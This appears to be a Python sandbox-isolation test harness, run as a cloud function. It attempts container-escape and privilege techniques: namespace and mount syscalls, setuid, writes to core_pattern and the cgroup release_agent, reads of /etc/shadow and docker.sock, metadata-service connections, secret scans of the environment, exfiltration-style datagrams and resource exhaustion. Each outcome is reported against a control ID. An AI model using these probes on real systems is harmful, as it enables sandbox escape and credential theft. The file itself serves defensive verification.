"""Tries what a hijacked function would try, and reports what came of it.

Each attempt is a small function under @attempt; it returns a text when the
attempt succeeded and raises OSError when it was stopped. Nothing here does
harm if a wall is missing: files are opened but not changed, processes end by
themselves, and every loop is bounded.
"""

import ctypes
import errno
import os
import platform
import resource
import signal
import socket
import struct
import subprocess

libc = ctypes.CDLL(None, use_errno=True)

# System call numbers: x86-64, arm64.
NUMBERS = {
    "ptrace": (101, 117), "mount": (165, 40), "umount2": (166, 39), "pivot_root": (155, 41),
    "chroot": (161, 51), "unshare": (272, 97), "setns": (308, 268), "bpf": (321, 280),
    "io_uring_setup": (425, 425), "userfaultfd": (323, 282), "keyctl": (250, 219), "add_key": (248, 217),
    "request_key": (249, 218), "perf_event_open": (298, 241), "init_module": (175, 105),
    "finit_module": (313, 273), "kexec_load": (246, 104), "reboot": (169, 142), "swapon": (167, 224),
    "open_by_handle_at": (304, 265), "process_vm_readv": (310, 270),
    "kcmp": (312, 272), "setuid": (105, 146), "setgid": (106, 144),
    "setgroups": (116, 159), "capset": (126, 91), "sethostname": (170, 161), "clock_settime": (227, 112),
    "execveat": (322, 281), "clone3": (435, 435),
    "open_tree": (428, 428), "fsopen": (430, 430), "mount_setattr": (442, 442),
    "pidfd_getfd": (438, 438), "syslog": (103, 116), "acct": (163, 89), "quotactl": (179, 60),
    "fanotify_init": (300, 262), "iopl": (172, None), 
}  # fmt: skip
COLUMN = {"x86_64": 0, "aarch64": 1}[platform.machine()]

ATTEMPTS = []


def attempt(control, title):
    def add(function):
        ATTEMPTS.append((control, title, function))
        return function

    return add


def syscall(name, *args):
    """Makes a system call past the C library's own checks."""
    number = NUMBERS[name][COLUMN]
    if number is None:
        raise OSError(errno.ENOSYS, "not on this machine")
    libc.syscall.restype = ctypes.c_long
    result = libc.syscall(ctypes.c_long(number), *[ctypes.c_long(a) if isinstance(a, int) else a for a in args])
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return f"{name} returned {result}"


def plain(control, title, name, *args):
    attempt(control, title)(lambda: syscall(name, *args))


# --- running something else (B7) -----------------------------------------------------
@attempt("B7", "run a shell")
def shell():
    return subprocess.run(["/bin/sh", "-c", "echo ran"], capture_output=True, check=True).stdout.decode()


@attempt("B7", "run the interpreter again")
def again():
    import sys

    return subprocess.run([sys.executable or "/usr/bin/python3.11", "-c", "print(1)"], capture_output=True, check=True).stdout.decode()


@attempt("B7", "run a script written to /tmp")
def script():
    with open("/tmp/run", "w") as f:
        f.write("#!/usr/bin/python3.11\nprint(1)\n")
    os.chmod("/tmp/run", 0o700)
    return subprocess.run(["/tmp/run"], capture_output=True, check=True).stdout.decode()


@attempt("B7", "run a program from memory")
def memory():
    fd = libc.memfd_create(b"intruder", 0)
    if fd < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    os.write(fd, b"#!/usr/bin/python3.11\n")
    pid = os.fork()
    if pid == 0:
        try:
            syscall("execveat", fd, b"", None, None, 0x1000)
        except OSError as e:
            os._exit(e.errno or 255)
        os._exit(0)
    code = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
    if code:
        raise OSError(code, os.strerror(code))
    return "ran"


# --- new worlds, other people's worlds (B1, B2) ------------------------------------
NEWUSER, NEWNS, NEWNET, NEWPID = 0x10000000, 0x00020000, 0x40000000, 0x20000000
plain("B2", "unshare a user namespace", "unshare", NEWUSER)
plain("B2", "unshare mounts and network", "unshare", NEWNS | NEWNET)


@attempt("B2", "clone3 into new namespaces")
def clone3():
    args = ctypes.create_string_buffer(struct.pack("=11Q", NEWUSER | NEWNS | NEWPID, 0, 0, 0, signal.SIGCHLD, 0, 0, 0, 0, 0, 0))
    number = ctypes.c_long(NUMBERS["clone3"][COLUMN])
    pid = libc.syscall(number, args, ctypes.c_long(88))
    if pid == 0:
        os._exit(0)
    if pid < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    os.waitpid(pid, 0)
    return f"process {pid} in new namespaces"


@attempt("B2", "setns into the namespaces of process 1")
def setns():
    fd = os.open("/proc/1/ns/mnt", os.O_RDONLY)
    return syscall("setns", fd, 0)


@attempt("B2", "setns with a descriptor of its own")
def setns_self():
    fd = os.open("/proc/self/ns/net", os.O_RDONLY)
    return syscall("setns", fd, 0)


# --- mounts (B2, B4) -----------------------------------------------------------------
plain("B2", "mount a tmpfs over /var/task", "mount", b"none", b"/var/task", b"tmpfs", 0, None)
plain("B2", "remount the root writable", "mount", b"none", b"/", b"none", 0x20 | 0x1000, None)
plain("B2", "unmount /proc", "umount2", b"/proc", 2)
plain("B2", "pivot_root", "pivot_root", b"/tmp", b"/tmp")
plain("B2", "chroot", "chroot", b"/tmp")
plain("B2", "fsopen, the new mount interface", "fsopen", b"tmpfs", 0)
plain("B2", "open_tree of the root", "open_tree", -100, b"/", 1)
plain("B2", "mount_setattr", "mount_setattr", -100, b"/", 0, ctypes.create_string_buffer(32), 32)

# --- the kernel's larger surfaces (B2) -------------------------------------------
plain("B2", "ptrace process 1", "ptrace", 16, 1, 0, 0)
plain("B2", "ptrace: trace me", "ptrace", 0, 0, 0, 0)
plain("B2", "bpf: make a map", "bpf", 0, ctypes.create_string_buffer(struct.pack("=5I", 2, 4, 4, 1, 0), 128), 128)
plain("B2", "io_uring_setup", "io_uring_setup", 8, ctypes.create_string_buffer(120))
plain("B2", "userfaultfd", "userfaultfd", 1)
plain("B2", "keyctl: the session keyring", "keyctl", 0, -3, 1)
plain("B2", "add_key", "add_key", b"user", b"intruder", b"x", 1, -2)
plain("B2", "request_key", "request_key", b"user", b"intruder", None, 0)
plain("B2", "perf_event_open", "perf_event_open", ctypes.create_string_buffer(struct.pack("=II", 1, 128), 128), 0, -1, -1, 0)
plain("B2", "fanotify_init", "fanotify_init", 0, 0)
plain("B2", "load a kernel module", "init_module", b"", 0, b"")
plain("B2", "load a kernel module from a file", "finit_module", 0, b"", 0)
plain("B2", "kexec_load", "kexec_load", 0, 0, None, 0)
plain("B2", "reboot, with a wrong magic", "reboot", 0, 0, 0, None)
plain("B2", "swapon", "swapon", b"/tmp/none", 0)
plain("B2", "read the kernel's log", "syslog", 3, ctypes.create_string_buffer(64), 64)
plain("B2", "switch accounting", "acct", None)
plain("B2", "quotactl", "quotactl", 0, None, 0, None)
plain("B2", "set the clock", "clock_settime", 0, ctypes.create_string_buffer(struct.pack("=qq", 0, 0)))
plain("B2", "set the host name", "sethostname", b"intruder", 8)
plain("B2", "iopl: reach for the ports", "iopl", 3)
plain("B2", "kcmp with process 1", "kcmp", 1, os.getpid(), 0, 0, 0)
plain("B2", "read the memory of process 1", "process_vm_readv", 1, None, 0, None, 0, 0)
plain("B2", "take a descriptor of another process", "pidfd_getfd", 0, 0, 0)


@attempt("B2", "open a file by its handle, past the root")
def by_handle():
    # The handle of inode 2, the root of an ext4 file system.
    handle = ctypes.create_string_buffer(struct.pack("=IiQ", 8, 1, 2), 16)
    fd = os.open("/tmp", os.O_RDONLY)
    try:
        return syscall("open_by_handle_at", fd, handle, os.O_RDONLY)
    finally:
        os.close(fd)


# --- becoming somebody (B3) ------------------------------------------------------------
plain("B3", "setuid 0", "setuid", 0)
plain("B3", "setgid 0", "setgid", 0)
plain("B3", "setgroups", "setgroups", 0, None)


@attempt("B3", "hold any capability")
def capabilities():
    status = dict(line.split(":\t", 1) for line in open("/proc/self/status").read().splitlines() if ":\t" in line)
    held = {k: status[k] for k in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb") if int(status[k], 16)}
    if held:
        return f"holds {held}"
    raise OSError(errno.EPERM, "every set is empty")


@attempt("B3", "raise capabilities again")
def capset():
    header = ctypes.create_string_buffer(struct.pack("=Ii", 0x20080522, 0))
    return syscall("capset", header, ctypes.create_string_buffer(b"\xff" * 24))


@attempt("B3", "run without no_new_privs")
def new_privs():
    if "NoNewPrivs:\t1" in open("/proc/self/status").read():
        raise OSError(errno.EPERM, "no_new_privs is set")
    return "a set-uid program would be honoured"


# --- writing, and reading what is not its own (B4, B9) -------------------------------
def writing(path):
    @attempt("B4", f"write to {path}")
    def write():
        os.close(os.open(path, os.O_WRONLY | os.O_CREAT, 0o600))
        return "opened for writing"


for target in (
    "/intruder", "/var/task/app.py", "/var/task/new.py", "/usr/intruder", "/etc/passwd", "/dev/intruder", "/var/intruder",
    "/proc/sys/kernel/core_pattern", "/proc/sys/vm/overcommit_memory", "/proc/sysrq-trigger", "/proc/self/oom_score_adj",
    "/sys/fs/cgroup/release_agent", "/sys/fs/cgroup/memory/release_agent", "/sys/fs/cgroup/cgroup.procs", "/sys/kernel/uevent_helper",
):  # fmt: skip
    writing(target)


def reading(path):
    @attempt("B9", f"read {path}")
    def read():
        if os.path.isdir(path):
            found = os.listdir(path)
        else:
            with open(path, "rb") as f:
                found = f.read(64)
        if not found:
            raise OSError(errno.ENODATA, "masked: nothing in it")
        return f"found {found[:5]}"


for target in (
    "/etc/shadow", "/root", "/home", "/boot", "/var/lib", "/var/run/docker.sock", "/proc/1/environ", "/proc/1/root/etc",
    "/proc/1/maps", "/proc/1/cwd/", "/proc/kcore", "/proc/kallsyms", "/proc/kmsg", "/proc/keys", "/proc/config.gz",
    "/dev/kvm", "/dev/mem", "/dev/kmsg", "/dev/sda", "/dev/vda", "/dev/fuse", "/sys/kernel/debug", "/sys/class/net",
):  # fmt: skip
    reading(target)


@attempt("B9", "see the processes of others")
def processes():
    seen = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
    others = [p for p in seen if p not in (1, os.getpid())]
    if others:
        return f"sees {others[:10]}"
    raise OSError(errno.ESRCH, f"only {seen}, its own")


@attempt("B4", "make a device file")
def mknod():
    os.mknod("/tmp/intruder", 0o600 | 0o020000, os.makedev(1, 1))
    return "made /dev/mem's twin"


# --- the network (C1, C3, C7) ----------------------------------------------------------
def connecting(control, host, port, title=None):
    @attempt(control, title or f"connect to {host} port {port}")
    def connect():
        socket.create_connection((host, port), timeout=0.3).close()
        return "connected"


connecting("C3", "169.254.169.254", 80, "connect to the cloud's metadata service")
connecting("C3", "::ffff:169.254.169.254", 80, "the same, written as IPv6")
connecting("C7", "127.0.0.1", 8443)
connecting("C7", "127.0.0.1", 8444)
connecting("C7", "127.0.0.1", 22)
connecting("C7", "::1", 8444)
connecting("C1", "10.0.0.1", 80)
connecting("C1", "172.17.0.1", 2375, "connect to the host's container bridge")
connecting("C1", "192.0.2.1", 443)
connecting("C1", "2001:db8::1", 443)


@attempt("C5", "look up a name")
def resolve():
    return str(socket.getaddrinfo("stolen-data.example.com", 443)[0][4])


@attempt("C5", "send a datagram to a name server")
def datagram():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    return f"sent {s.sendto(b'stolen', ('192.0.2.53', 53))} bytes"


def opening(title, *args):
    @attempt("B2", title)
    def open_socket():
        socket.socket(*args).close()
        return "opened"


opening("open a packet socket", 17, socket.SOCK_RAW, 0x0300)
opening("open a raw socket", socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
opening("open a netlink socket for netfilter", 16, socket.SOCK_RAW, 12)
opening("open a socket to the hypervisor", 40, socket.SOCK_STREAM)
opening("open a kernel crypto socket", 38, socket.SOCK_SEQPACKET, 0)
opening("open a Bluetooth socket", 31, socket.SOCK_RAW, 1)


@attempt("C7", "reach an abstract socket of the host")
def abstract():
    s = socket.socket(socket.AF_UNIX)
    s.connect("\0/tmp/.X11-unix/X0")
    return "connected"


# --- secrets and traces (B6, E3) -----------------------------------------------------
@attempt("E3", "find credentials in the environment")
def environment():
    words = ("SECRET", "PASSWORD", "CREDENTIAL", "PRIVATE", "BAWN")
    # What says where to call other functions is no credential, nor is the text that
    # AWS's libraries want to find in the place of one.
    empty = ("", "not-a-secret")
    found = [k for k, v in os.environ.items() if any(w in k.upper() for w in words) and v not in empty and k != "BAWN_ENDPOINT"]
    if found:
        return f"found {found}"
    raise OSError(errno.ENOENT, "none there")


@attempt("B6", "find what an earlier call left behind")
def trace():
    try:
        with open("/tmp/implant") as f:
            return f"found {f.read()}"
    except FileNotFoundError:
        with open("/tmp/implant", "w") as f:
            f.write("left by an earlier call")
        raise OSError(errno.ENOENT, "a clean /tmp") from None


# --- exhaustion (B5) -----------------------------------------------------------------
@attempt("B5", "fill the disk through /tmp")
def fill():
    block = b"x" * (1 << 20)
    written = 0
    try:
        with open("/tmp/fill", "wb", buffering=0) as f:
            while written < 1 << 30:
                written += f.write(block)
    finally:
        os.unlink("/tmp/fill")
    return f"wrote {written >> 20} MiB"


@attempt("B5", "open a hundred thousand files")
def files():
    held = []
    try:
        while len(held) < 100_000:
            held.append(os.open("/dev/null", os.O_RDONLY))
        return f"holds {len(held)}"
    finally:
        for fd in held:
            os.close(fd)


@attempt("B5", "raise its own limits")
def limits():
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard + 1, hard + 1))
    return "raised"


@attempt("B5", "fork without end")
def forks():
    out, into = os.pipe()
    children = []
    try:
        while len(children) < 1000:
            pid = os.fork()
            if pid == 0:
                os.close(into)
                os.read(out, 1)  # until the parent closes its end
                os._exit(0)
            children.append(pid)
        return f"made {len(children)}"
    finally:
        os.close(into)
        os.close(out)
        for pid in children:
            os.waitpid(pid, 0)


def handler(event, context):
    attempts = []
    for control, title, function in ATTEMPTS:
        try:
            stopped, name, result = False, "", str(function())
        except socket.gaierror as e:
            stopped, name, result = True, "EAI", e.strerror
        except OSError as e:
            stopped, name, result = True, errno.errorcode.get(e.errno, ""), e.strerror or str(e)
        except ValueError as e:  # setrlimit says so
            stopped, name, result = True, "EPERM", str(e)
        except Exception as e:  # noqa: BLE001 - an attempt that broke has not been stopped
            stopped, name, result = False, "", f"{type(e).__name__}: {e}"
        attempts.append(
            {"control": control, "attempt": title, "stopped": stopped, "errno": name, "result": f"{name} {result}".strip()}
        )
    through = sum(not a["stopped"] for a in attempts)
    return {"tried": len(attempts), "stopped": len(attempts) - through, "through": through, "attempts": attempts}
